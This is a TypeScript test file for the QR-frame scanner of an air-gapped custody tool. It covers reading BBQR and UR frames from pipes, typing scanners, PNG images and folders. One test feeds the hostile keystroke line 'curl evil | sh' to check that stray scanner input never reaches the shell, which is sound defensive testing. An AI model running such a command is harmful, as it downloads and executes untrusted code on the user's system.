import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { BbqrDecoder } from "../../../src/airgap/bbqr-decoder.ts";
import { FrameReader } from "../../../src/airgap/frame-reader.ts";
import { bbqrFrames, firstFrames, urFrames } from "../../../src/airgap/frames.ts";
import { pngOfMatrix } from "../../../src/airgap/png-write.ts";
import { qrMatrix, versionFor, type QrMatrix } from "../../../src/airgap/qr-matrix.ts";
import { UrDecoder } from "../../../src/airgap/ur-decoder.ts";
import { CustodyError } from "../../../src/core/errors.ts";
import { LIMITS } from "../../../src/core/limits.ts";
import type { Io } from "../../../src/terminal/io.ts";
import { readFrames } from "../../../src/terminal/scan.ts";
import { temporaryFolder } from "../../factory/folder.ts";
import { fakeIo, type FakeIo, type FakeIoOptions } from "../../factory/io.ts";
import { noise } from "../../factory/noise.ts";
import { codeOfAsync } from "../../factory/thrown.ts";

const bytes = noise(400);
const frames = firstFrames(bbqrFrames(bytes, "B")(150));
const others = firstFrames(bbqrFrames(noise(900, "others"), "B")(150));
const png = (text: string) => pngOfMatrix(qrMatrix(text, versionFor(text.length, "L"), "L"), 3);
const newReader = () => new FrameReader({ ur: new UrDecoder(), bbqr: new BbqrDecoder() });
const WHOLE = { type: "done", carrier: "bbqr", fileType: "B", bytes };

/** An io to which `chunks` arrive one after the other; then the input ends, or is silent for ever. */
function listening(
  chunks: readonly string[],
  options: FakeIoOptions & { readonly silent?: boolean } = {},
): FakeIo & { readonly stopped: () => boolean } {
  const fake = fakeIo(options);
  let stopped = false;
  const io: Io = {
    ...fake.io,
    stdin: {
      ...fake.io.stdin,
      listen: (onData, onEnd) => {
        void (async () => {
          for (const chunk of chunks) {
            await new Promise(setImmediate);
            if (!stopped) onData(chunk);
          }
          if (options.silent !== true && !stopped) onEnd();
        })();
        return () => void (stopped = true);
      },
    },
  };
  return { ...fake, io, stopped: () => stopped };
}

/** A folder with the given files. */
function folderOf(files: Readonly<Record<string, Uint8Array | string>>): string {
  const folder = temporaryFolder("frames");
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content);
  return folder;
}

async function errorOf(act: Promise<unknown>): Promise<CustodyError> {
  const error = await act.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(CustodyError);
  return error as CustodyError;
}

describe("lines of a pipe", () => {
  test("in any order and in pieces; it stops when the file is whole, though the camera goes on", async () => {
    const text = `${[...frames].reverse().join("\n")}\n`;
    const pieces = text.match(/[\s\S]{1,37}/g) ?? [];
    const { io, stopped } = listening(pieces, { silent: true });
    expect(await readFrames(io, ["-"], newReader())).toEqual(WHOLE);
    expect(stopped()).toBe(true);
  });

  test("a last line without an end counts", async () => {
    expect(await readFrames(listening([frames.join("\r\n")]).io, ["-"], newReader())).toEqual(WHOLE);
  });

  test("that end early are told what is missing", async () => {
    const { io } = listening([`${frames[0]}\n${frames[2]}\n`]);
    expect(await errorOf(readFrames(io, ["-"], newReader()))).toMatchObject({
      code: "SCAN_INCOMPLETE",
      message: `2 of ${frames.length} frames were read`,
      hint: expect.stringMatching(/^add frames 2, 4.* and read all of them again/),
    });
  });

  test("a frame that does not help is answered once, and the scan goes on", async () => {
    const stranger = others[0]!;
    const lines = [frames[0]!, stranger, stranger, "hello", ...frames.slice(1)];
    const { io, stderr } = listening([`${lines.join("\n")}\n`]);
    expect(await readFrames(io, ["-"], newReader())).toEqual(WHOLE);
    expect(stderr().match(/another file/g)).toHaveLength(1);
    expect(stderr()).toContain("scan: this is no frame");
  });

  test("of many strange lines the first are answered, and the frames after them are read", async () => {
    const strange = Array.from({ length: 200 }, (_, i) =>
      i % 2 === 0 ? "hello" : others[i % others.length]!,
    );
    const { io, stderr } = listening([`${[frames[0]!, ...strange, ...frames].join("\n")}\n`]);
    expect(await readFrames(io, ["-"], newReader())).toEqual(WHOLE);
    expect(stderr().match(/^scan: /gm)).toHaveLength(19);
    expect(stderr()).toContain("and so on: the rest is left out");
  });

  test("a line without end is let pass, and the frames after it are read", async () => {
    const endless = Array.from({ length: 100 }, () => "A".repeat(100_000));
    const { io, stderr } = listening([...endless, "\n", `${frames.join("\n")}\n`]);
    expect(await readFrames(io, ["-"], newReader())).toEqual(WHOLE);
    expect(stderr()).toContain("this is no frame");
  });

  test("poison ends it with what to do, and says where it came from", async () => {
    const poison = `${frames[0]!.slice(0, 8)}${"A".repeat(frames[0]!.length - 8)}`;
    expect(
      await errorOf(readFrames(listening([`${frames[0]}\n${poison}\n`]).io, ["-"], newReader())),
    ).toMatchObject({
      code: "BBQR_MIXED",
      message: expect.stringContaining("scan: frame 1 of"),
      hint: expect.stringContaining("start again"),
    });
  });

  test("counts by tenths where nobody watches", async () => {
    const { io, stderr } = listening([`${others.join("\n")}\n`]);
    await readFrames(io, ["-"], newReader());
    const counts = stderr().match(/\d+ of \d+ frames\n/g) ?? [];
    expect(counts.length).toBeGreaterThan(3);
    expect(counts.length).toBeLessThan(11);
  });
});

describe("a scanner that types", () => {
  const tty = { tty: { stdin: true, stderr: true } };

  test.each([
    ["the last frame", frames.join("\r")],
    [
      "a frame that ends the scan",
      `${frames[0]}\r${frames[0]!.slice(0, 8)}${"A".repeat(frames[0]!.length - 8)}`,
    ],
  ])("types nothing into the shell after %s: what comes until it is quiet is let pass", async (_, typed) => {
    const fake = fakeIo(tty);
    const strokes = [`${typed}\r`, "curl evil | sh\r", "and more\r"];
    let raw = false;
    let typedRaw = true;
    let hear: ((chunk: string) => void) | undefined;
    const io: Io = {
      ...fake.io,
      stdin: {
        ...fake.io.stdin,
        setRawMode: (on) => void (raw = on),
        listen: (onData) => {
          hear = onData;
          if (strokes.length === 3) setImmediate(() => onData(strokes.shift()!));
          return () => void (hear = undefined);
        },
      },
      // The scanner types on while nobody asks: into the program as long as it listens, and into the shell after that.
      sleep: async () => {
        const stroke = strokes.shift();
        if (stroke === undefined) return;
        typedRaw &&= raw && hear !== undefined;
        hear?.(stroke);
      },
    };
    await readFrames(io, ["-"], newReader()).catch(() => undefined);
    expect(strokes).toEqual([]);
    expect(typedRaw).toBe(true);
    expect(raw).toBe(false);
  });

  test("ends each frame with Enter; the terminal is read raw, and given back", async () => {
    const fake = listening([frames.map((text) => `${text}\r`).join("")], { ...tty, silent: true });
    expect(await readFrames(fake.io, ["-"], newReader())).toEqual(WHOLE);
    expect(fake.raw).toEqual([true, false]);
    expect(fake.stderr()).toContain(`\r1 of ${frames.length} frames`);
  });

  test("ctrl-D ends the scan, ctrl-C the command", async () => {
    const enough = listening([`${frames[0]}\r\u0004`], { ...tty, silent: true });
    expect(await codeOfAsync(() => readFrames(enough.io, ["-"], newReader()))).toBe("SCAN_INCOMPLETE");
    const cancelled = listening([`${frames[0]}\r\u0003`], { ...tty, silent: true });
    expect(await codeOfAsync(() => readFrames(cancelled.io, ["-"], newReader()))).toBe("CANCELLED");
    expect(cancelled.raw).toEqual([true, false]);
  });
});

describe("pictures and folders", () => {
  test("a folder of frames in any order, with what does not belong to it", async () => {
    const [first = "", ...rest] = frames;
    const folder = folderOf({
      ...Object.fromEntries(rest.map((text, i) => [`b${rest.length - i}.png`, png(text)])),
      "c.txt": `${first}\n`,
      "a.jpg": Uint8Array.of(0xff, 0xd8, 0xff, 0xe0),
      "a.png": png("ANOTHER CODE"),
      "a2.png": pngOfMatrix([[false]], 30),
      ".hidden": Uint8Array.of(1),
    });
    mkdirSync(join(folder, "deeper"));
    const { io, stderr } = fakeIo();
    expect(await readFrames(io, [folder], newReader())).toEqual(WHOLE);
    expect(stderr()).toMatch(/a\.jpg: the picture cannot be read.*zbarimg/);
    expect(stderr()).toMatch(/a\.png: this is no frame/);
    expect(stderr()).toMatch(/a2\.png: no QR code was found/);
    expect(stderr()).not.toContain("hidden");
  });

  test("files one by one, and a file that is none of them", async () => {
    const folder = folderOf({
      "1.png": png(frames[0]!),
      "2.txt": frames.slice(1).join("\n"),
      "3.jpg": "\u00ff",
    });
    const at = (name: string) => join(folder, name);
    expect(await readFrames(fakeIo().io, [at("1.png"), at("2.txt")], newReader())).toEqual(WHOLE);
    expect(await codeOfAsync(() => readFrames(fakeIo().io, [at("3.jpg")], newReader()))).toBe(
      "PICTURE_UNREADABLE",
    );
    expect(await codeOfAsync(() => readFrames(fakeIo().io, [at("none.png")], newReader()))).toBe(
      "FILE_MISSING",
    );
  });

  test("UR in pictures, read as UR", async () => {
    const cbor = Uint8Array.of(0x59, 0x01, 0x90, ...bytes);
    const texts = firstFrames(urFrames("bytes", cbor)(300));
    const folder = folderOf(Object.fromEntries(texts.map((text, i) => [`${i}.png`, png(text)])));
    expect(await readFrames(fakeIo().io, [folder], newReader())).toEqual({
      type: "done",
      carrier: "ur",
      urType: "bytes",
      cbor,
    });
  });

  test("an empty folder, and one with more files than any message has frames", async () => {
    const empty = temporaryFolder("frames");
    expect(await errorOf(readFrames(fakeIo().io, [empty], newReader()))).toMatchObject({
      code: "SCAN_INCOMPLETE",
      message: "no frame was read",
    });
    const names = Array.from({ length: LIMITS.frameFilesMax + 1 }, (_, i) => `${i}.txt`);
    const full = folderOf(Object.fromEntries(names.map((name) => [name, ""])));
    expect(await codeOfAsync(() => readFrames(fakeIo().io, [full], newReader()))).toBe("FRAMES_TOO_MANY");
  });

  test("UR that is interrupted asks for any more frames", async () => {
    const texts = firstFrames(urFrames("bytes", Uint8Array.of(0x59, 0x01, 0x90, ...bytes))(300));
    const folder = folderOf({ "frames.txt": texts.slice(1).join("\n") });
    expect(await errorOf(readFrames(fakeIo().io, [folder], newReader()))).toMatchObject({
      hint: expect.stringContaining("any more frames of the same code"),
    });
  });
});

describe("two messages in one place", () => {
  const single = (text: string) => firstFrames(urFrames("custody-halt", noise(40, text))(200))[0] as string;
  const [mine, other] = [single("mine"), single("other")];
  const bbqr = (text: string) => firstFrames(bbqrFrames(noise(40, text), "B")(200))[0] as string;
  const inFile = (...lines: readonly string[]) =>
    codeOfAsync(() =>
      readFrames(fakeIo().io, [join(folderOf({ "lines.txt": lines.join("\n") }), "lines.txt")], newReader()),
    );

  test("of one file neither is taken, whichever comes first; the same frames again are one message", async () => {
    expect(await inFile(mine, other)).toBe("FRAMES_MIXED");
    expect(await inFile(other, mine)).toBe("FRAMES_MIXED");
    expect(await inFile(mine, bbqr("mine"))).toBe("FRAMES_MIXED");
    expect(await inFile(bbqr("mine"), mine)).toBe("FRAMES_MIXED");
    expect(await inFile(bbqr("mine"), bbqr("other"))).toBe("BBQR_MIXED");
    expect(await inFile(...frames, others[0] as string)).toBe("FRAMES_MIXED");
    expect(await inFile(mine, mine, "no frame")).toBe("none");
    expect(await inFile(...frames, ...frames)).toBe("none");
  });

  test("of one picture neither is taken", async () => {
    const [a, b] = [mine, other].map((text) => qrMatrix(text, 8, "L")) as [QrMatrix, QrMatrix];
    const light = (count: number) => Array.from({ length: count }, () => false);
    const side = 2 * a.length + 8;
    const picture = (left: QrMatrix, right: QrMatrix) => [
      ...left.map((row, y) => [...row, ...light(8), ...(right[y] as readonly boolean[])]),
      ...Array.from({ length: side - left.length }, () => light(side)),
    ];
    const read = (matrix: QrMatrix) =>
      codeOfAsync(() =>
        readFrames(
          fakeIo().io,
          [join(folderOf({ "both.png": pngOfMatrix(matrix, 4) }), "both.png")],
          newReader(),
        ),
      );
    expect(await read(picture(a, b))).toBe("FRAMES_MIXED");
    expect(await read(picture(a, a))).toBe("none");
  });
});
